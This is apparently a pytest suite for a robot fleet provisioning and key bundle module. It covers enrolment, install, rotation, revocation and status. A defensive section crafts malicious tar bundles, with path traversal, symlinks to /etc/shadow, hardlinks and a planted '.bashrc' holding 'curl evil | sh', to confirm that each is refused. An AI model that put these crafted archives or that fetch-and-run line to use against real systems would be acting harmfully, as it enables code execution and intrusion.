"""Fleet provisioning (tensorguard_crypto.fleet): server identities, robot bundles, install, rotation,
revocation and status, including what an attacker who hands a robot a crafted bundle can and cannot do."""
import io
import json
import os
import shutil
import stat
import tarfile
from pathlib import Path

import pytest

from tensorguard_crypto import fleet, keystore
from tensorguard_crypto.fleet import (
    AGGREGATOR_ID,
    KEY_SERVICE_ID,
    SERVER_ID,
    BundleExists,
    FleetAlreadyProvisioned,
    FleetNotProvisioned,
    FleetPaths,
    InvalidBundle,
    NotARobot,
    RobotFilesExist,
)
from tensorguard_crypto.identity import Role
from tensorguard_crypto.keystore import (
    PASSPHRASE_ENV,
    KeyFileExists,
    LoosePermissions,
    MissingPassphrase,
    WrongPassphrase,
    key_file_info,
    load_key,
    new_identity_file,
    read_key_info,
)
from tensorguard_crypto.kms import AuditLogTampered, KeyAlreadyRegistered, KeyManagementSystem, KMSStorageError

PASSPHRASE = b'fleet test passphrase'
ROBOT_PASSPHRASE = b'robot test passphrase'


@pytest.fixture(scope='module')
def provisioned(tmp_path_factory) -> Path:
    """One fleet provisioned per module (scrypt at full cost is slow); tests work on copies."""
    root = tmp_path_factory.mktemp('template') / 'fleet'
    fleet.provision_server(FleetPaths(root), PASSPHRASE)
    return root


@pytest.fixture()
def paths(provisioned, tmp_path) -> FleetPaths:
    root = tmp_path / 'fleet'
    shutil.copytree(provisioned, root)
    return FleetPaths(root)


def members(bundle: Path) -> list[tarfile.TarInfo]:
    with tarfile.open(bundle, 'r:') as archive:
        return archive.getmembers()


def entries(paths: FleetPaths) -> int:
    return paths.kms().verify_log().entries


def test_provision_writes_private_server_keys_and_refuses_a_second_init(paths):
    assert stat.S_IMODE(paths.server.stat().st_mode) == 0o700
    kms = paths.kms()
    for key_id, role in fleet.SERVER_IDENTITIES:
        key = paths.server_key(key_id)
        assert stat.S_IMODE(key.stat().st_mode) == 0o600
        info = read_key_info(key)
        assert (info.key_id, info.role) == (key_id, role) and info.public_key == kms.public_key_for(key_id, role)
        assert load_key(key, PASSPHRASE).public_key_bytes() == info.public_key
    before = paths.kms_log.read_bytes()
    with pytest.raises(FleetAlreadyProvisioned, match='not empty'):
        fleet.provision_server(paths, PASSPHRASE)
    assert paths.kms_log.read_bytes() == before


def test_nothing_is_created_in_a_directory_that_is_not_a_fleet(tmp_path):
    paths = FleetPaths(tmp_path / 'nothing')
    with pytest.raises(FleetNotProvisioned, match='fleet init'):
        fleet.enroll_robot_bundle(paths, 'robot_1', ROBOT_PASSPHRASE, tmp_path / 'r.tar')
    with pytest.raises(FleetNotProvisioned):
        fleet.fleet_status(paths)
    assert list(tmp_path.iterdir()) == []


def test_bundle_holds_exactly_the_robot_key_and_trust_file(paths, tmp_path):
    bundle = tmp_path / 'out' / 'robot_1.tar'
    record = fleet.enroll_robot_bundle(paths, 'robot_1', ROBOT_PASSPHRASE, bundle)
    assert record.metadata.role is Role.ROBOT and record.version == 1
    assert stat.S_IMODE(bundle.stat().st_mode) == 0o600
    listed = members(bundle)
    assert [(m.name, m.type, m.mode) for m in listed] == [('identity.key', tarfile.REGTYPE, 0o600),
                                                         ('trust.json', tarfile.REGTYPE, 0o600)]
    files = fleet.read_bundle(bundle)
    robot = key_file_info(files.key_file, 'bundle')
    assert (robot.key_id, robot.role) == ('robot_1', Role.ROBOT)
    assert robot.public_key == paths.kms().public_key_for('robot_1', Role.ROBOT)
    pinned = json.loads(files.trust_file)['keys']
    kms = paths.kms()
    assert pinned == {key_id: {'role': role.value, 'public_key': kms.public_key_for(key_id).hex()}
                      for key_id, role in fleet.SERVER_IDENTITIES}
    # Nothing of the robot's key stays with the server, and no server secret travels to the robot.
    assert not (paths.root / 'robots').exists()
    data = bundle.read_bytes()
    for key_id in (AGGREGATOR_ID, SERVER_ID, KEY_SERVICE_ID):
        assert paths.server_key(key_id).read_bytes()[-48:] not in data


def test_enrolment_refusals_leave_the_kms_and_the_bundle_alone(paths, tmp_path):
    bundle = tmp_path / 'robot_1.tar'
    fleet.enroll_robot_bundle(paths, 'robot_1', ROBOT_PASSPHRASE, bundle)
    first, count = bundle.read_bytes(), entries(paths)
    with pytest.raises(BundleExists):
        fleet.enroll_robot_bundle(paths, 'robot_2', ROBOT_PASSPHRASE, bundle)
    with pytest.raises(KeyAlreadyRegistered):
        fleet.enroll_robot_bundle(paths, 'robot_1', ROBOT_PASSPHRASE, tmp_path / 'again.tar')
    with pytest.raises(KeyAlreadyRegistered):
        fleet.enroll_robot_bundle(paths, AGGREGATOR_ID, ROBOT_PASSPHRASE, tmp_path / 'agg.tar')
    with pytest.raises(MissingPassphrase):
        fleet.enroll_robot_bundle(paths, 'robot_3', b'short', tmp_path / 'short.tar')
    assert bundle.read_bytes() == first and entries(paths) == count
    assert sorted(p.name for p in tmp_path.iterdir()) == ['fleet', 'robot_1.tar']


def test_a_bundle_is_removed_when_the_kms_refuses_the_robot(paths, tmp_path, monkeypatch):
    """The bundle is written before the KMS changes, and taken back if the KMS then refuses: a bundle on
    disk always holds the enrolled key."""
    def refuse(*_args, **_kwargs):
        raise KMSStorageError('disk full')
    monkeypatch.setattr(KeyManagementSystem, 'register_key', refuse)
    with pytest.raises(KMSStorageError):
        fleet.enroll_robot_bundle(paths, 'robot_1', ROBOT_PASSPHRASE, tmp_path / 'robot_1.tar')
    assert not (tmp_path / 'robot_1.tar').exists()


def test_install_checks_the_passphrase_and_never_overwrites_without_replace(paths, tmp_path):
    bundle = tmp_path / 'robot_1.tar'
    fleet.enroll_robot_bundle(paths, 'robot_1', ROBOT_PASSPHRASE, bundle)
    robot_dir = tmp_path / 'robot' / 'etc'
    with pytest.raises(WrongPassphrase):
        fleet.install_bundle(bundle, robot_dir, b'not the passphrase')
    assert not robot_dir.exists()
    files = fleet.install_bundle(bundle, robot_dir, ROBOT_PASSPHRASE)
    assert files.robot_id == 'robot_1'
    assert stat.S_IMODE(robot_dir.stat().st_mode) == 0o700
    for name in ('identity.key', 'trust.json'):
        assert stat.S_IMODE((robot_dir / name).stat().st_mode) == 0o600
    assert load_key(robot_dir / 'identity.key', ROBOT_PASSPHRASE).key_id == 'robot_1'
    with pytest.raises(RobotFilesExist, match='identity.key'):
        fleet.install_bundle(bundle, robot_dir, ROBOT_PASSPHRASE)


def test_rotation_gives_a_new_bundle_and_the_robot_replaces_its_identity(paths, tmp_path):
    fleet.enroll_robot_bundle(paths, 'robot_1', ROBOT_PASSPHRASE, tmp_path / 'v1.tar')
    robot_dir = tmp_path / 'robot'
    fleet.install_bundle(tmp_path / 'v1.tar', robot_dir, None)
    old = read_key_info(robot_dir / 'identity.key').public_key
    record = fleet.rotate_robot_bundle(paths, 'robot_1', ROBOT_PASSPHRASE, tmp_path / 'v2.tar', 'yearly')
    assert record.version == 2
    new = fleet.install_bundle(tmp_path / 'v2.tar', robot_dir, ROBOT_PASSPHRASE, replace=True).public_key
    assert new != old and read_key_info(robot_dir / 'identity.key').public_key == new
    assert paths.kms().public_key_for('robot_1') == new
    assert sorted(p.name for p in robot_dir.iterdir()) == ['identity.key', 'trust.json']


def test_revocation_is_for_robots_and_permanent(paths, tmp_path):
    fleet.enroll_robot_bundle(paths, 'robot_1', ROBOT_PASSPHRASE, tmp_path / 'r.tar')
    with pytest.raises(NotARobot, match='server'):
        fleet.revoke_robot(paths, SERVER_ID, 'oops')
    with pytest.raises(NotARobot, match='not enrolled'):
        fleet.revoke_robot(paths, 'robot_9', 'typo')
    assert fleet.revoke_robot(paths, 'robot_1', 'stolen').revocation_reason == 'stolen'
    with pytest.raises(NotARobot, match='revoked'):
        fleet.rotate_robot_bundle(paths, 'robot_1', ROBOT_PASSPHRASE, tmp_path / 'r2.tar')
    with pytest.raises(NotARobot):
        fleet.rotate_robot_bundle(paths, KEY_SERVICE_ID, ROBOT_PASSPHRASE, tmp_path / 'ks.tar')
    assert not (tmp_path / 'r2.tar').exists() and not (tmp_path / 'ks.tar').exists()
    assert paths.kms().is_revoked('robot_1')


# --- A crafted bundle, from the robot's side: nothing but the two files is ever written. ---

def _member(name: str, data: bytes = b'', kind: bytes = tarfile.REGTYPE, link: str = '') -> tuple:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, link, 0o600
    info.size = len(data) if kind == tarfile.REGTYPE else 0
    return info, data


def _craft(path: Path, entries: list[tuple], mode: str = 'w') -> Path:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode, format=tarfile.PAX_FORMAT) as archive:
        for info, data in entries:
            archive.addfile(info, io.BytesIO(data) if info.isreg() else None)
    path.write_bytes(buffer.getvalue())
    path.chmod(0o600)
    return path


@pytest.fixture()
def genuine(paths, tmp_path) -> fleet.RobotFiles:
    bundle = tmp_path / 'genuine.tar'
    fleet.enroll_robot_bundle(paths, 'robot_1', ROBOT_PASSPHRASE, bundle)
    return fleet.read_bundle(bundle)


CRAFTED = {
    'traversal': lambda k, t: [_member('../identity.key', k), _member('trust.json', t)],
    'dot_slash': lambda k, t: [_member('./identity.key', k), _member('trust.json', t)],
    'absolute': lambda k, t: [_member('/tmp/identity.key', k), _member('trust.json', t)],
    'nested': lambda k, t: [_member('etc/identity.key', k), _member('trust.json', t)],
    'extra_member': lambda k, t: [_member('identity.key', k), _member('trust.json', t), _member('notes.txt', b'x')],
    'extra_traversal': lambda k, t: [_member('identity.key', k), _member('trust.json', t),
                                     _member('../../.bashrc', b'curl evil | sh')],
    'symlink': lambda k, t: [_member('identity.key', kind=tarfile.SYMTYPE, link='/etc/shadow'),
                             _member('trust.json', t)],
    'hardlink': lambda k, t: [_member('trust.json', t), _member('identity.key', kind=tarfile.LNKTYPE,
                                                                link='trust.json')],
    'directory': lambda k, t: [_member('identity.key', kind=tarfile.DIRTYPE), _member('trust.json', t)],
    'fifo': lambda k, t: [_member('identity.key', kind=tarfile.FIFOTYPE), _member('trust.json', t)],
    'duplicate': lambda k, t: [_member('identity.key', k), _member('trust.json', t), _member('identity.key', k)],
    'missing_trust': lambda k, t: [_member('identity.key', k)],
    'empty': lambda k, t: [],
    'trust_pins_an_attacker': lambda k, t: [_member('identity.key', k), _member('trust.json', json.dumps(
        {'keys': {**json.loads(t)['keys'], 'attacker': {'role': 'server', 'public_key': '11' * 32}}}).encode())],
    'trust_not_json': lambda k, t: [_member('identity.key', k), _member('trust.json', b'{not json')],
    'trust_deeply_nested': lambda k, t: [_member('identity.key', k), _member('trust.json', b'[' * 60000)],
    'trust_a_list': lambda k, t: [_member('identity.key', k), _member('trust.json', b'[1, 2]')],
    'key_not_a_key_file': lambda k, t: [_member('identity.key', b'TGKEY\x00garbage'), _member('trust.json', t)],
}


@pytest.mark.parametrize('case', sorted(CRAFTED))
def test_crafted_bundles_are_refused_and_nothing_is_written(genuine, tmp_path, case):
    bundle = _craft(tmp_path / f'{case}.tar', CRAFTED[case](genuine.key_file, genuine.trust_file))
    robot_dir = tmp_path / 'deep' / 'robot'
    before = sorted(str(p) for p in tmp_path.rglob('*'))
    with pytest.raises((InvalidBundle, keystore.KeyStoreError)):
        fleet.install_bundle(bundle, robot_dir, ROBOT_PASSPHRASE)
    assert sorted(str(p) for p in tmp_path.rglob('*')) == before


def test_a_server_key_in_place_of_the_robot_key_is_refused(genuine, tmp_path):
    _, server_key = new_identity_file('server', Role.SERVER, ROBOT_PASSPHRASE, scrypt_log2_n=15)
    bundle = _craft(tmp_path / 'b.tar', [_member('identity.key', server_key),
                                         _member('trust.json', genuine.trust_file)])
    with pytest.raises(InvalidBundle, match='server key, not a robot key'):
        fleet.install_bundle(bundle, tmp_path / 'robot', None)


@pytest.mark.parametrize('damage', ['truncated', 'random', 'gzip', 'too_large'])
def test_damaged_or_oversized_bundles_are_refused(genuine, tmp_path, damage):
    bundle = tmp_path / 'b.tar'
    two = [_member('identity.key', genuine.key_file), _member('trust.json', genuine.trust_file)]
    valid = _craft(bundle, two)
    data = {'truncated': lambda: valid.read_bytes()[:700], 'random': lambda: os.urandom(10240),
            'gzip': lambda: _craft(tmp_path / 'g.tgz', two, 'w:gz').read_bytes(),
            'too_large': lambda: valid.read_bytes() + bytes(fleet.MAX_BUNDLE_BYTES)}[damage]()
    bundle.write_bytes(data)
    with pytest.raises((InvalidBundle, keystore.KeyFileCorrupt)):
        fleet.install_bundle(bundle, tmp_path / 'robot', None)
    assert not (tmp_path / 'robot').exists()


def test_a_readable_or_linked_bundle_is_refused(paths, tmp_path):
    bundle = tmp_path / 'robot_1.tar'
    fleet.enroll_robot_bundle(paths, 'robot_1', ROBOT_PASSPHRASE, bundle)
    bundle.chmod(0o644)
    with pytest.raises(LoosePermissions, match='chmod 600'):
        fleet.install_bundle(bundle, tmp_path / 'robot', None)
    bundle.chmod(0o600)
    os.symlink(bundle, tmp_path / 'link.tar')
    with pytest.raises(keystore.KeyStoreError):
        fleet.install_bundle(tmp_path / 'link.tar', tmp_path / 'robot', None)
    assert not (tmp_path / 'robot').exists()


# --- Status and passphrases ---

def test_status_reports_identities_and_problems(paths, tmp_path):
    fleet.enroll_robot_bundle(paths, 'robot_1', ROBOT_PASSPHRASE, tmp_path / 'a.tar')
    fleet.enroll_robot_bundle(paths, 'robot_2', ROBOT_PASSPHRASE, tmp_path / 'b.tar')
    fleet.revoke_robot(paths, 'robot_2', 'stolen')
    status = fleet.fleet_status(paths)
    assert status.problems == [] and status.current_model is None and status.rounds == 0
    assert [(r.key_id, r.status) for r in status.robots] == [('robot_1', 'active'), ('robot_2', 'revoked')]
    assert sorted(s.key_id for s in status.server_identities) == sorted([AGGREGATOR_ID, SERVER_ID, KEY_SERVICE_ID])
    assert status.audit_log_entries == 6 and len(status.audit_log_head) == 64
    # A server key file swapped for another key of the same name is a problem, not a silent success.
    paths.server_key(SERVER_ID).unlink()
    keystore.generate_key(paths.server_key(SERVER_ID), passphrase=PASSPHRASE, key_id=SERVER_ID,
                                role=Role.SERVER, scrypt_log2_n=15)
    assert any('does not hold the server key' in p for p in fleet.fleet_status(paths).problems)
    lines = paths.kms_log.read_text().splitlines(keepends=True)
    paths.kms_log.write_text(''.join([lines[1], lines[0], *lines[2:]]))
    with pytest.raises(AuditLogTampered):
        fleet.fleet_status(paths)


def test_passphrase_from_environment(monkeypatch):
    monkeypatch.delenv(PASSPHRASE_ENV, raising=False)
    with pytest.raises(MissingPassphrase, match=PASSPHRASE_ENV):
        fleet.passphrase_from_environment()
    monkeypatch.setenv(PASSPHRASE_ENV, 'short')
    with pytest.raises(MissingPassphrase, match='at least 8'):
        fleet.passphrase_from_environment()
    monkeypatch.setenv(PASSPHRASE_ENV, PASSPHRASE.decode())
    assert fleet.passphrase_from_environment() == PASSPHRASE


def test_enroll_robot_in_place_uses_the_same_files(paths):
    robot_dir = fleet.enroll_robot(paths, 'robot_1', ROBOT_PASSPHRASE)
    assert robot_dir == paths.root / 'robots' / 'robot_1'
    assert load_key(robot_dir / 'identity.key', ROBOT_PASSPHRASE).public_key_bytes() == \
        paths.kms().public_key_for('robot_1', Role.ROBOT)
    assert json.loads((robot_dir / 'trust.json').read_text())['keys'].keys() == {AGGREGATOR_ID, SERVER_ID,
                                                                                 KEY_SERVICE_ID}
    with pytest.raises(KeyAlreadyRegistered):
        fleet.enroll_robot(paths, 'robot_1', ROBOT_PASSPHRASE)
    with pytest.raises(KeyFileExists):
        keystore.write_private_file(robot_dir / 'identity.key', b'x', 'key file')
